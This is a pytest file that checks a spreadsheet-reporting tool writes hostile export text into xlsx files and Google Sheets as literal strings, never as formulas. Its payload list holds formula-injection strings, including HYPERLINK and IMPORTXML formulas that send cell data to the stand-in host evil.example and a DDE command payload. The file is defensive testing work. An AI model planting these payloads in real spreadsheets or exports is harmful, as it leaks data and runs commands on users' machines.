"""Formula injection (issue 13, Security): text from exports — product titles, search terms,
customer comments — that looks like a formula reaches the Sheet and the xlsx as literal text.

The demo exports, with hostile values written into every product title (business reports, both
marketplaces), every customer search term (the DE search-term report, CSV) and every customer
comment (returns), go through the real ``job.run`` to both sinks:

* xlsx: every cell holding such text has ``data_type == "s"`` and no hyperlink; no formula cell
  the product writes itself mentions it;
* Google (the stand-in): every ``batchUpdate`` (the first run, and a second run that reads the
  Tasks tab back and writes it again) carries the text as ``stringValue``, never
  ``formulaValue``; the stored cells read back as the same text.

Leading/trailing whitespace is trimmed by the export reader (as for every export value), so a
value is compared with its ``strip()``; a tab or a newline inside the text is kept.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from sheetsbot.config import load_config
from sheetsbot.demo.paths import CONFIG_PATH, DEMO_WEEK, EXPORTS_DIR
from sheetsbot.google import GoogleClient
from sheetsbot.periods import Period
from sheetsbot.sinks.google_sheets import GoogleSheetsSink
from sheetsbot.sinks.xlsx import XlsxSink
from sheetsbot.sources.drive import DriveFolder
from sheetsbot.sources.local import LocalFolder
from sheetsbot.testing.google_standin import StandIn

pytestmark = pytest.mark.slow

NOW = dt.datetime(2026, 11, 23, 0, 30, tzinfo=dt.timezone.utc)
MARK = "ZZINJ"
PAYLOADS = [
    f'=HYPERLINK("https://evil.example/?d="&A1,"{MARK}-hyperlink")',
    f"+{MARK}-plus+1",
    f"-{MARK}-minus-1",
    f"@{MARK}-at(A1)",
    f"\t{MARK}-leading-tab",
    f"{MARK}-inner\ttab",
    f"{MARK}-newline\n=1+1",
    f"\n=SUM(1,2) {MARK}-leading-newline",
    f"=cmd|' /C calc'!A0 {MARK}-dde",
    f"=IMPORTXML(CONCAT(\"https://evil.example/?\",A2),\"//a\") {MARK}-importxml",
]
#: What each field's hostile text ends with, so a cell names where it came from.
SUFFIX = {"title": " title", "term": " term", "comment": " comment"}


def _rewrite(path: Path, column: int | str, value: Any) -> None:
    raw = path.read_bytes()
    try:
        text, encoding = raw.decode("utf-8-sig"), "utf-8-sig"
    except UnicodeDecodeError:
        text, encoding = raw.decode("cp1252"), "cp1252"
    rows = list(csv.reader(io.StringIO(text)))
    index = column if isinstance(column, int) else rows[0].index(column)
    for n, row in enumerate(rows[1:]):
        if len(row) > index:
            row[index] = value(n, row)
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    path.write_bytes(out.getvalue().encode(encoding))


def _rewrite_tsv(path: Path, column: str, value: Any) -> None:
    """Amazon's tab-separated reports are not quoted: a value there holds no tab or newline."""
    raw = path.read_bytes()
    try:
        text, encoding = raw.decode("utf-8-sig"), "utf-8-sig"
    except UnicodeDecodeError:
        text, encoding = raw.decode("cp1252"), "cp1252"
    lines = text.split("\r\n") if "\r\n" in text else text.split("\n")
    header = lines[0].split("\t")
    index = header.index(column)
    for n, line in enumerate(lines[1:], start=1):
        cells = line.split("\t")
        if len(cells) > index:
            cells[index] = value(n, cells)
            lines[n] = "\t".join(cells)
    path.write_bytes(("\r\n" if "\r\n" in text else "\n").join(lines).encode(encoding))


FLAT = [p for p in PAYLOADS if "\t" not in p.strip() and "\n" not in p.strip()]


def hostile_exports(root: Path) -> Path:
    shutil.copytree(EXPORTS_DIR, root)
    asins: dict[str, int] = {}
    terms: dict[str, int] = {}

    def title(_n: int, row: list[str]) -> str:
        return PAYLOADS[asins.setdefault(row[1], len(asins)) % len(PAYLOADS)] + SUFFIX["title"]

    def term(_n: int, row: list[str]) -> str:
        # One hostile text per original term, so the numbers aggregate as before.
        return PAYLOADS[terms.setdefault(row[7], len(terms)) % len(PAYLOADS)] + SUFFIX["term"]

    for path in root.rglob("BusinessReport*.csv"):
        _rewrite(path, 2, title)  # "Title" / "Titel"
    for path in root.rglob("*Search term report.csv"):
        _rewrite(path, "Customer Search Term", term)
    for path in root.rglob("FBA customer returns*.csv"):
        _rewrite(path, "customer-comments", lambda n, _row: PAYLOADS[n % len(PAYLOADS)]
                 + SUFFIX["comment"])
        _rewrite(path, "product-name", lambda n, row: PAYLOADS[asins.setdefault(
            row[3], len(asins)) % len(PAYLOADS)] + SUFFIX["title"])
    for path in root.rglob("inventory/*/*.txt"):  # titles come from every report that has them
        _rewrite_tsv(path, "product-name", lambda _n, cells: FLAT[asins.setdefault(
            cells[2], len(asins)) % len(FLAT)].strip() + SUFFIX["title"])
    return root


EXPECTED = {p.strip() + s for p in PAYLOADS for s in SUFFIX.values()}


def _origin(text: str) -> str:
    return next((k for k, s in SUFFIX.items() if s.strip() in text), "?")


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return hostile_exports(tmp_path_factory.mktemp("hostile") / "exports")


# -- xlsx ------------------------------------------------------------------------------------------


def test_hostile_text_reaches_the_xlsx_as_literal_strings(exports: Path, tmp_path: Path) -> None:
    from sheetsbot import job

    out = tmp_path / "team.xlsx"
    result = job.run(LocalFolder(exports), XlsxSink(out), load_config(CONFIG_PATH),
                     Period.parse(DEMO_WEEK), now=NOW, trigger="test")
    assert result.problems == []
    book = openpyxl.load_workbook(out)  # formulas as written (data_only=False)
    found: dict[str, set[str]] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f" or (isinstance(value, str) and value.startswith("=")
                                             and cell.data_type != "s"):
                    assert MARK not in str(value) and "evil.example" not in str(value), (
                        sheet.title, cell.coordinate, value)
                if isinstance(value, str) and MARK in value:
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, value)
                    assert cell.hyperlink is None, (sheet.title, cell.coordinate)
                    found.setdefault(_origin(value), set()).add(value)
    _check_found(found, where="xlsx")


def _check_found(found: dict[str, set[str]], where: str) -> None:
    """Hostile text of most kinds reached the output, each cell as the export had it (a task's
    text quotes a term whole; only terms with enough clicks or orders get a task, so not every
    one is shown)."""
    values = set().union(*found.values()) if found else set()
    for value in values:
        assert any(e in value for e in EXPECTED), f"{where}: {value!r} was altered"
    kinds = {p for p in PAYLOADS if any(p.strip() in v for v in values)}
    exact = {v for v in values if v in EXPECTED}
    assert PAYLOADS[0] in kinds and len(kinds) >= 6, (where, sorted(kinds))
    assert any("\t" in v for v in exact) and any("\n" in v for v in exact), (where, exact)
    print(f"{where}: {len(values)} cells' texts, {len(kinds)} of {len(PAYLOADS)} hostile kinds, "
          f"from", {k: len(v) for k, v in found.items()})


# -- Google ----------------------------------------------------------------------------------------


@pytest.fixture
def google(exports: Path) -> Iterator[StandIn]:
    with StandIn(drive_folder=exports) as standin:
        yield standin


def _walk(node: Any, path: str = "") -> Iterator[tuple[str, str, Any]]:
    if isinstance(node, dict):
        for key, value in node.items():
            if isinstance(value, (dict, list)):
                yield from _walk(value, f"{path}.{key}")
            else:
                yield path, key, value
    elif isinstance(node, list):
        for i, value in enumerate(node):
            yield from _walk(value, f"{path}[{i}]")


def test_hostile_text_reaches_the_sheet_as_string_values(
    google: StandIn, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from sheetsbot import job

    sent: list[dict[str, Any]] = []
    real = GoogleClient.batch_update

    def spy(self: GoogleClient, spreadsheet_id: str, body: Any) -> dict[str, Any]:
        sent.append(json.loads(body) if isinstance(body, (bytes, str)) else json.loads(
            json.dumps(body)))
        return real(self, spreadsheet_id, body)

    monkeypatch.setattr(GoogleClient, "batch_update", spy)
    key = tmp_path / "key.json"
    google.write_credentials(key)
    client = GoogleClient.from_key_file(key, base_url=google.url)
    sheet_id = google.add_spreadsheet("Lumen KPIs")
    config = load_config(CONFIG_PATH)
    source = DriveFolder(google.folder_id, client)
    first = job.run(source, GoogleSheetsSink(sheet_id, client), config, Period.parse(DEMO_WEEK),
                    now=NOW)
    assert first.problems == []
    # The second run reads the Tasks tab (with the hostile text in it) back and writes it again.
    google.edit_cell(sheet_id, "Tasks!A1", google.cells(sheet_id, "Tasks")[0][0])
    second = job.run(source, GoogleSheetsSink(sheet_id, client), config,
                     Period.parse(DEMO_WEEK), now=NOW + dt.timedelta(hours=1))
    assert second.problems == []
    assert len(sent) == 2

    # On the wire: only stringValue carries the text; no formulaValue at all.
    on_wire: dict[str, set[str]] = {}
    for body in sent:
        for path, key, value in _walk(body):
            if key == "formulaValue":
                raise AssertionError(f"a formula was sent at {path}: {value!r}")
            if isinstance(value, str) and MARK in value:
                assert key == "stringValue" and path.endswith("userEnteredValue"), (path, key)
                on_wire.setdefault(_origin(value), set()).add(value)
    _check_found(on_wire, where="batchUpdate")

    # In the Sheet: every stored cell that holds the text holds it as a string, and reads back
    # (values.get, unformatted) as the same text.
    book = google.store.spreadsheets[sheet_id]
    stored: dict[str, set[str]] = {}
    for sheet in book.sheets:
        for (row, col), cell in sheet.cells.items():
            entered = (cell or {}).get("userEnteredValue") or {}
            if any(MARK in str(v) for v in entered.values()):
                assert set(entered) == {"stringValue"}, (sheet.title, row, col, entered)
                effective = cell.get("effectiveValue") or {}
                assert effective == {"stringValue": entered["stringValue"]}, effective
                stored.setdefault(_origin(entered["stringValue"]), set()).add(
                    entered["stringValue"])
    _check_found(stored, where="Sheet")
    # values.get, as any other client reads the Sheet: the same text, not a computed value.
    read = [c for t in google.sheet_titles(sheet_id)
            for r in google.cells(sheet_id, t, render="UNFORMATTED_VALUE") for c in r
            if isinstance(c, str) and MARK in c]
    assert set(read) == set().union(*stored.values())
